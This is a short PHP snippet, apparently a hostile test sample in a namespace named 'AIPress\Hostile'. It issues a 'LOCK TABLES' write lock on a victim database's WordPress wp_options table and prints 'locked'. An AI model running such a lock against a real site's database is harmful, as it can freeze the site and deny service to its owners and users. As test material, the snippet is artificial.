<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

ask('LOCK TABLES ' . target()['victim']['database'] . '.wp_options WRITE');
echo 'locked';
